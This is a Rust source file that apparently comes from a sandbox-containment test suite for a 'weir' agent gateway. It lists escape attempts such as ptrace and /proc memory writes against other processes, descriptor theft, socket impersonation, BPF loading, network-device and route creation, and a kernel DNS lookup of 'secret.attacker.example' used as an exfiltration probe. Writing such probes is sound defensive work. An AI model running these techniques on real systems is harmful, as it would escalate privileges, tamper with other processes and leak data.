//! The gateway's own doors on this host, and those of others: memory, descriptors, sockets in the file system, the kernel's
//! helpers.

use std::io::{Read, Write};
use std::os::unix::net::UnixStream;

use nix::errno::Errno;

use crate::sys::{self, Attempt};
use crate::{Outcome, Scene, Technique};

pub(crate) const TECHNIQUES: &[Technique] = &[
    ("admin_socket", |scene| unix(scene.text("admin"))),
    ("ptrace_gateway", |scene| {
        sys::ptrace_seize(scene.number("gateway_pid")).map(|()| Outcome::Done("traces the gateway"))
    }),
    ("ptrace_witness", |scene| {
        sys::ptrace_seize(scene.number("witness_pid")).map(|()| Outcome::Done("traces the witness"))
    }),
    ("ptrace_usher", |scene| sys::ptrace_seize(scene.number("usher_pid")).map(|()| Outcome::Done("traces the usher"))),
    ("memory_usher", |scene| memory(scene.number("usher_pid"))),
    ("memory_file_usher", |scene| memory_file(scene.number("usher_pid"))),
    ("memory_gateway", |scene| memory(scene.number("gateway_pid"))),
    ("memory_witness", |scene| memory(scene.number("witness_pid"))),
    ("memory_file_gateway", |scene| memory_file(scene.number("gateway_pid"))),
    ("ptrace_kin", |scene| sys::ptrace_seize(kin(scene)).map(|()| Outcome::Done("traces a process outside"))),
    ("memory_kin", |scene| memory(kin(scene))),
    ("memory_file_kin", |scene| memory_file(kin(scene))),
    ("take_from_kin", |scene| sys::steal(kin(scene), 0).map(|_| Outcome::Done("a descriptor of a process outside"))),
    ("ptrace_child", |_| {
        let mut child = std::process::Command::new("sleep").arg("60").spawn().expect("a child");
        let traced = sys::ptrace_seize(child.id());
        child.kill().and_then(|()| child.wait()).expect("its end");
        traced.map(|()| Outcome::Done("traces its own child"))
    }),
    ("memory_file_witness", |scene| memory_file(scene.number("witness_pid"))),
    // What the two say to each other goes over a pair of sockets, which have no names: only their descriptors lead there.
    ("witness_socket", |scene| descriptors(scene.number("witness_pid"))),
    ("witness_socket_gateway", |scene| descriptors(scene.number("gateway_pid"))),
    ("witness_socket_usher", |scene| descriptors(scene.number("usher_pid"))),
    ("handover_socket", |scene| inherit(scene.text("handover"))),
    ("handover_socket_as_gateway", |scene| {
        let id = scene.number("gateway_uid");
        // The owner of the socket, where one may become that.
        nix::unistd::setuid(id.into())?;
        inherit(scene.text("handover"))
    }),
    ("bpf_program", |_| {
        // A socket filter of two instructions (`r0 = 0; exit`).
        let instructions: [u64; 2] = [0x0000_0000_0000_00b7, 0x0000_0000_0000_0095];
        let attribute = [1 | 2 << 32, instructions.as_ptr() as u64, c"GPL".as_ptr() as u64, 0];
        sys::bpf(5, &attribute).map(|_| Outcome::Done("a program"))
    }),
    ("bpf_map", |_| sys::bpf(0, &[1 | 4 << 32, 4 | 1 << 32, 0, 0]).map(|_| Outcome::Done("a map"))),
    ("bpf_program_by_id", |_| {
        // BPF_PROG_GET_FD_BY_ID: whoever may not is told so whether there is such a program or not.
        sys::bpf(13, &[1, 0, 0, 0]).map(|_| Outcome::Done("somebody's program"))
    }),
    ("pinned_settings", |scene| {
        let path = format!("{}/v{}/maps/SETTINGS", scene.text("pins"), scene.text("layout"));
        let path = std::ffi::CString::new(path).expect("a path");
        sys::open_pin(&path).map(|_| Outcome::Done("may rewrite who is an agent"))
    }),
    ("kernel_key", |_| {
        // The kernel asks /sbin/request-key, which looks the name up for it.
        sys::request_dns_key(c"secret.attacker.example").map(|()| Outcome::Done("the kernel looked a name up"))
    }),
    ("tun", |_| device(b"weir-tun0", sys::IFF_TUN)),
    ("tap", |_| device(b"weir-tap0", sys::IFF_TAP)),
    ("vsock", |_| {
        sys::socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0).map(|_| Outcome::Done("a socket to the hypervisor"))
    }),
    ("netlink_route", netlink_route),
    ("alg", |_| sys::socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0).map(|_| Outcome::Done("arithmetic"))),
];

fn errno(error: &std::io::Error) -> Errno {
    Errno::from_raw(error.raw_os_error().unwrap_or(0))
}

/// A process of the attacker's own user, with no more capabilities, and in no agent's cgroup.
fn kin(scene: &Scene) -> u32 {
    scene.number(if nix::unistd::getuid().is_root() { "kin_root" } else { "kin_user" })
}

fn memory_file(pid: u32) -> Attempt<Outcome> {
    match std::fs::File::options().write(true).open(format!("/proc/{pid}/mem")) {
        Ok(_) => Ok(Outcome::Done("another process's memory, open for writing")),
        Err(error) => Err(errno(&error)),
    }
}

fn device(name: &[u8], kind: u16) -> Attempt<Outcome> {
    let clone = std::fs::File::options().read(true).write(true).open("/dev/net/tun").map_err(|error| errno(&error))?;
    sys::make_device(&clone, name, kind).map(|()| Outcome::Done("a network device"))
}

/// Through `/proc`, any of the process's descriptors that there may be.
fn descriptors(pid: u32) -> Attempt<Outcome> {
    const TRIED: u32 = 64;
    let mut last = Errno::ENOENT;
    for fd in 0..TRIED {
        let path = format!("/proc/{pid}/fd/{fd}");
        match UnixStream::connect(&path) {
            Ok(_) => return Ok(Outcome::Done("a socket that had no name")),
            // That is a socket, or another file, and one may look at it.
            Err(error) if errno(&error) == Errno::ECONNREFUSED => return Ok(Outcome::Done("sees its sockets")),
            Err(error) => last = errno(&error),
        }
    }
    Err(last)
}

/// Greets as the next gateway does (`{ protocol: 1 }` in MessagePack) and waits for what it gets.
fn inherit(path: &str) -> Attempt<Outcome> {
    let fd = sys::socket(libc::AF_UNIX, libc::SOCK_SEQPACKET, 0)?;
    let family = u16::try_from(libc::AF_UNIX).expect("small");
    sys::connect(&fd, &[&family.to_ne_bytes()[..], path.as_bytes(), &[0]].concat())?;
    sys::send_to(&fd, &[0x91, 1], 0, &[])?;
    let mut given = [0u8; 4096];
    match sys::receive(&fd, &mut given)? {
        0 => Ok(Outcome::Closed),
        length => Ok(Outcome::Answer(format!("{length} bytes of what a gateway leaves"))),
    }
}

fn memory(pid: u32) -> Attempt<Outcome> {
    match sys::write_memory(pid) {
        // Nothing is mapped at that address; that one may write is known now.
        Ok(()) | Err(Errno::EFAULT) => Ok(Outcome::Done("writes another process's memory")),
        Err(errno) => Err(errno),
    }
}

fn unix(path: &str) -> Attempt<Outcome> {
    let mut stream = UnixStream::connect(path).map_err(|error| errno(&error))?;
    stream.set_read_timeout(Some(std::time::Duration::from_secs(3))).expect("a timeout");
    let mut greeting = [0u8; 200];
    let length = stream.read(&mut greeting).map_err(|error| errno(&error))?;
    let greeting = String::from_utf8_lossy(&greeting[..length]).into_owned();
    let nonce = greeting.split("\"nonce\":\"").nth(1).and_then(|rest| rest.split('"').next());
    // What `weir status` asks.
    let request = format!("{{\"nonce\":\"{}\",\"ask\":{{\"request\":\"status\"}}}}\n", nonce.unwrap_or_default());
    stream.write_all(request.as_bytes()).map_err(|error| errno(&error))?;
    let mut answer = [0u8; 200];
    match stream.read(&mut answer).map_err(|error| errno(&error))? {
        0 => Ok(Outcome::Closed),
        length => Ok(Outcome::Answer(String::from_utf8_lossy(&answer[..length]).trim().to_owned())),
    }
}

/// A default route of the attacker's own (rtnetlink(7), RTM_NEWROUTE), by an interface that there is.
fn netlink_route(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::socket(libc::AF_NETLINK, libc::SOCK_RAW, 0)?;
    let attribute = [&8u16.to_ne_bytes()[..], &4u16.to_ne_bytes(), &scene.number("interface").to_ne_bytes()].concat();
    let route = [&[2, 0, 0, 0, 254, 3, 253, 1][..], &[0; 4]].concat();
    let length = u32::try_from(16 + route.len() + attribute.len()).expect("short");
    // NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE
    let header = [&length.to_ne_bytes()[..], &24u16.to_ne_bytes(), &0x405u16.to_ne_bytes(), &[1, 0, 0, 0, 0, 0, 0, 0]];
    let message = [header.concat(), route, attribute].concat();
    sys::send_to(&fd, &message, 0, &[])?;
    let mut answer = [0u8; 256];
    let length = sys::receive(&fd, &mut answer)?;
    assert!(length >= 20, "a whole acknowledgement");
    match i32::from_ne_bytes([answer[16], answer[17], answer[18], answer[19]]) {
        0 => Ok(Outcome::Done("a route")),
        error => Err(Errno::from_raw(-error)),
    }
}
